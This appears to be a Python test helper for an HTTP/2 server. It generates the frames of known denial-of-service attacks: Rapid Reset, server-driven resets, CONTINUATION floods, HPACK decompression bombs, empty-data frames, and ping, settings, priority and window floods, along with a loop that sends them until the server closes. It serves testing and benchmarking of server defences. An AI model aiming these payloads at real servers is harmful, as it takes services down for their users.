"""What hostile clients of HTTP/2 send: for the tests that bound the harm, and for bench/attacks.py,
which measures it.

A `Make` gives the bytes of the i-th time. Source: docs/internals/attacks.md names each attack.
"""

from __future__ import annotations

import contextlib
import struct
import threading
from collections.abc import Callable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from support.http2 import H2Client

Make = Callable[[int], bytes]

CANCEL = 8
END_STREAM, END_HEADERS = 1, 4
# How a client drives a server to reset a stream: CVE-2025-8671.
WAYS = ("overflow", "zero", "length", "fields", "trailers", "empty")
# Fields that are small on the wire, once they are in the table, and large when decoded.
BOMBS = {
    "one large field": ("x", "v" * 3900),
    "cookie crumbs": ("cookie", "c" * 3900),
    "empty crumbs": ("cookie", ""),
}
BOMB_FIELDS = 4000
# As many of them as a head may have: what a client may pin in memory by a shut window.
PINNED_FIELDS = [("x", "v" * 3900)] * 16


def reset_pairs(client: H2Client, path: str) -> Make:
    """CVE-2023-44487: a request and its reset."""

    def pair(i: int) -> bytes:
        stream = 2 * i + 1
        return client.head(stream, path).serialize() + RstStreamFrame(stream, CANCEL).serialize()

    return pair


def driven_resets(client: H2Client, way: str, path: str) -> Make:
    """CVE-2025-8671: a request that the server has to reset, in one of `WAYS`."""
    fields = {"length": [("content-length", "1")], "fields": [("Upper", "x")]}.get(way, [])

    def one(i: int) -> bytes:
        stream = 2 * i + 1
        head = client.head(stream, path, method="POST", fields=fields, end=False).serialize()
        if way == "overflow":
            return head + WindowUpdateFrame(stream, 2**31 - 1).serialize()
        if way == "zero":
            # Not by hyperframe, which does not make this one.
            return head + struct.pack("!HBBBLL", 0, 4, 8, 0, stream, 0)
        if way == "empty":
            return struct.pack("!HBBBL", 0, 0, 1, END_HEADERS | END_STREAM, stream)
        if way == "length":
            return head + DataFrame(stream, b"ab").serialize()
        if way == "trailers":
            more = HeadersFrame(stream, client.encoder.encode([("a", "b")]))
            more.flags.add("END_HEADERS")
            return head + more.serialize()
        return head

    return one


# VU#421644: what the endless frames of a header block hold.
CONTINUATIONS = {
    "empty": b"",
    "fields": b"\x00\x01a\x01b",
    # The longest codes there are: 28 bits for a byte.
    "huffman": Encoder().encode([("a", "\x01" * 4000)], huffman=True),
}


def open_block(client: H2Client) -> None:
    """Begins a header block that does not end. Nothing may be between its frames: that the client
    saw the server's settings is said before.
    """
    while not client.settings:
        assert client.read_frame() is not None
    client.send(HeadersFrame(1, client.encoder.encode([(":method", "GET")])))


def continuations(payload: bytes) -> Make:
    """VU#421644: more and more of a header block."""
    return lambda _: ContinuationFrame(1, payload).serialize()


# Frames that cost nothing to send, and after how many of them the server has had enough.
FLOODS: dict[str, tuple[Make, int]] = {
    "ping": (lambda _: PingFrame(0, b"12345678").serialize(), 1000),
    "settings": (lambda _: SettingsFrame(0, {4: 65535}).serialize(), 1000),
    # A tree that is turned over and over.
    "priority": (
        lambda i: PriorityFrame(
            2 * (i % 100) + 1, depends_on=2 * ((i + 1) % 100) + 1, exclusive=i % 2 == 0
        ).serialize(),
        10_000,
    ),
    "window": (lambda _: WindowUpdateFrame(0, 1).serialize(), 10_000),
}


def empty_data(_: int) -> bytes:
    """CVE-2019-9518, on a request with the stream 1 that is open."""
    return DataFrame(1, b"").serialize()


def flood(client: H2Client, make: Make, *, count: int, batch: int = 50) -> int:
    """Sends `make(i)` until the server closes. Returns how many were sent; reads all the while."""
    reader = threading.Thread(target=_read_all, args=(client,), daemon=True)
    reader.start()
    sent = 0
    try:
        # What is still sent into a connection that ends takes the last words from its other end.
        while sent < count and not client.goaways and not client.closed:
            client.send(b"".join(make(sent + i) for i in range(batch)))
            sent += batch
    except OSError:
        pass
    reader.join(10)
    assert not reader.is_alive(), "the connection stays open"
    return sent


def _read_all(client: H2Client) -> None:
    with contextlib.suppress(OSError):
        while client.read_frame() is not None:
            pass
